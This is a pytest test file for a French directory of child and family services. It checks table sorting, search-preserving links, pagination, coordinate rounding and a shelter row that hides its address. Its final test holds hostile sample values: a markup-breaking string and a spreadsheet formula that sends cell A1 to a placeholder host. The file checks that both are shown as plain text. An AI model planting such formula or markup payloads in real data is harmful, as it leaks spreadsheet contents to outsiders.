"""The table: what sorts it, where its links lead, and what it shows of whom."""

import re
from html import unescape
from itertools import pairwise

import httpx
import pytest

from tests.world import World


def headers_of(html: str) -> dict[str, tuple[str | None, str | None]]:
    """Return label -> (what aria-sort says, where the header's link leads) of each column."""
    found = {}
    for attributes, content in re.findall(r'<th scope="col"([^>]*)>(.*?)</th>', html, re.DOTALL):
        sort = re.search(r'aria-sort="(\w+)"', attributes)
        link = re.search(r'href="([^"]*)"', content)
        label = re.sub(r"<.*", "", re.sub(r"^\s*<a[^>]*>", "", content), flags=re.DOTALL).strip()
        found[label] = (sort and sort[1], link and unescape(link[1]))
    return found


def names(html: str) -> list[str]:
    return [unescape(n) for n in re.findall(r'scope="row"[^>]*><a href="[^"]*">([^<]*)<', html)]


@pytest.mark.slow
def test_headers_sort_one_way_and_the_other(client: httpx.Client) -> None:
    html = client.get("/table?territoire=93").text
    columns = headers_of(html)
    assert list(columns) == [
        *("Nom", "Catégorie", "Commune", "Département", "Téléphone", "Adresse", "Horaires"),
        *("Pour qui", "Langues", "Vérifié le"),
    ]
    assert columns["Catégorie"] == (
        "ascending",
        "/table?territoire=93&tri=-categorie#tableau",
    )
    assert columns["Nom"] == (None, "/table?territoire=93&tri=nom#tableau")
    assert columns["Téléphone"] == (None, None)
    ascending = client.get("/table?territoire=93&tri=nom").text
    assert headers_of(ascending)["Nom"] == ("ascending", "/table?territoire=93&tri=-nom#tableau")
    descending = client.get("/table?territoire=93&tri=-nom").text
    assert headers_of(descending)["Nom"] == ("descending", "/table?territoire=93&tri=nom#tableau")
    assert [sort for sort, _ in headers_of(descending).values() if sort] == ["descending"]


def test_distances_are_there_where_there_is_a_place_and_sort_it(client: httpx.Client) -> None:
    html = client.get("/table?lieu=93008&rayon=25").text
    assert headers_of(html)["Distance"][0] == "ascending"
    shown = [float(km.replace(",", ".")) for km in re.findall(r"([\d,]+)&nbsp;km", html)]
    assert shown
    assert all(one <= other for one, other in pairwise(shown))
    assert "Distance" not in headers_of(client.get("/table").text)


def test_links_keep_the_search(client: httpx.Client) -> None:
    html = unescape(client.get("/table?territoire=93&fonction=ecoute&public=parents&tri=nom").text)
    for address in (
        "/departements/93?fonction=ecoute&public=parents&tri=nom",
        "/table.csv?territoire=93&fonction=ecoute&public=parents&tri=nom",
        "/table.xlsx?territoire=93&fonction=ecoute&public=parents&tri=nom",
        "/table.geojson?territoire=93&fonction=ecoute&public=parents&tri=nom",
        # Each cross takes one criterion away, and stays here.
        "/table?territoire=93&public=parents&tri=nom",
        "/table?territoire=93&fonction=ecoute&tri=nom",
        "/table?territoire=93",
    ):
        assert f'href="{address}"' in html, address


def test_pages_follow_each_other(client: httpx.Client) -> None:
    first = unescape(client.get("/table?tri=nom").text)
    assert len(names(first)) == 100
    assert 'rel="next" href="/table?tri=nom&page=2"' in first
    second = unescape(client.get("/table?tri=nom&page=2").text)
    assert 'rel="prev" href="/table?tri=nom"' in second
    assert not set(re.findall(r'data-actor="(\w+)"', first)) & set(
        re.findall(r'data-actor="(\w+)"', second)
    )


@pytest.mark.parametrize(
    ("asked", "leads"),
    [
        ("territoire=2a", "/table?territoire=2A"),
        ("territoire=1&tri=nom", "/table?territoire=01&tri=nom"),
        ("lieu=48.93512,2.35514&rayon=5", "/table?lieu=48.935%2C2.355&rayon=5"),
    ],
)
def test_a_search_has_one_address_and_no_fine_position(
    client: httpx.Client, asked: str, leads: str
) -> None:
    answer = client.get(f"/table?{asked}")
    assert (answer.status_code, answer.headers["location"]) == (303, leads)


def test_a_shelter_has_a_neutral_row(client: httpx.Client, world: World) -> None:
    html = client.get("/table?territoire=93&categorie=heberger").text
    row = html.partition(f'data-actor="{world.ids["shelter"]}"')[2].partition("</tr>")[0]
    assert "Adresse non publiée" in row
    assert 'href="tel:+33143939393"' in row
    assert "Cellule de recueil (CRIP) du territoire" in row


def test_nothing_found_says_what_to_relax_and_offers_no_file(client: httpx.Client) -> None:
    html = unescape(client.get("/table?territoire=93&categorie=ase&age=2&q=zzzzzz").text)
    assert "Essayez d’élargir" in html
    assert 'href="/table?territoire=93"' in html
    assert "<table" not in html
    assert "/table.csv" not in html


def test_hostile_names_are_text(client: httpx.Client) -> None:
    html = client.get("/table?territoire=59&tri=nom").text
    assert "<t>]]>" not in html
    assert "&lt;t&gt;]]&gt;" in html
    assert '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")' in names(html)
